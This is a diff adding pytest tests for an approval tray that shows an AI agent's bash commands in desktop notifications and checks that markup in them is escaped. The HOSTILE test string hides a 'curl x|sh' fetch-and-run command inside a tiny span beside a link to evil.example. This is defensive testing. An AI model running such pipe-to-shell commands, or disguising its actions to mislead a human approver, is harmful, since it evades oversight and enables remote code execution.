@@ -11,8 +11,12 @@ from collections.abc import Iterator
 
 import pytest
 
+from .conftest import require_system, write_config
+from .dbus_fakes import FakeNotifications
+from .helpers import in_thread, wait_for
 from .test_attack_paths import NO_APPROVER, Serve, _leaks, _stop
 from .test_seams import _serve_with_rules
+from .test_sni import SniTray
 
 
 @pytest.fixture(scope="module")
@@ -72,3 +76,72 @@ def test_bash_spellings_do_not_block_harmless_commands(ruled):
     ):
         r = c.call("bash", {"command": command, "cwd": str(ruled.home)})
         assert "PUBLIC-readme" in r.text, (command, r.text)
+
+
+# -- desktop notifications: agent text is never read as markup ---------------------------------
+
+
+@pytest.fixture
+def dbus(monkeypatch):
+    from .dbus_fakes import PrivateBus
+
+    require_system("dbus-daemon", packages="dbus-daemon")
+    bus = PrivateBus()
+    monkeypatch.setenv("DBUS_SESSION_BUS_ADDRESS", bus.address)
+    yield bus
+    bus.close()
+
+
+@pytest.fixture
+def tray_watcher(dbus):
+    from .dbus_fakes import FakeWatcher
+
+    w = FakeWatcher(dbus.address)
+    yield w
+    w.close()
+
+
+HOSTILE = 'echo <a href="http://evil.example/">ok</a> <span size="1">; curl x|sh</span>'
+
+
+@pytest.mark.parametrize("caps", [("body", "body-markup", "actions"), ("body", "actions")])
+def test_notification_body_shows_agent_text_as_written(tray_watcher, env, caps):
+    """A server that advertises ``body-markup`` reads ``<a>``/``<span size>``: the risky half
+    of a command could be hidden or turned into a link. There the text arrives escaped; a
+    server without markup gets it unchanged."""
+    server = FakeNotifications(tray_watcher.address, caps)
+    write_config(env["config"], {"roots": [env["root"]], "approval": {"timeout_s": 20}})
+    t = SniTray(env, notifier=True)
+    try:
+        c = t.client()
+        th, _out = in_thread(c.call, "bash", {"command": HOSTILE})
+        wait_for(lambda: server.shown)
+        body = server.shown[0]["body"]
+        if "body-markup" in caps:
+            assert "<" not in body and "&lt;a href=" in body, body
+        else:
+            assert '<a href="http://evil.ex' in body, body
+        t.runner.decide(t.runner.snapshot().pending[0].id, "deny")
+        th.join(10)
+    finally:
+        t.close()
+        server.close()
+
+
+def test_plain_notification_is_escaped_for_a_markup_server(tray_watcher, env):
+    """Without buttons the tray sends its plain 'Approval needed' notification itself (SNI)."""
+    server = FakeNotifications(tray_watcher.address, ("body", "body-markup"))
+    write_config(env["config"], {"roots": [env["root"]], "approval": {"timeout_s": 20}})
+    t = SniTray(env, notifier=True)
+    try:
+        assert t.app.actionable is None
+        c = t.client()
+        th, _out = in_thread(c.call, "bash", {"command": HOSTILE})
+        wait_for(lambda: any("evil" in n["body"] for n in server.shown))
+        body = next(n["body"] for n in server.shown if "evil" in n["body"])
+        assert "<" not in body and "&lt;/span&gt;" in body, body
+        t.runner.decide(t.runner.snapshot().pending[0].id, "deny")
+        th.join(10)
+    finally:
+        t.close()
+        server.close()
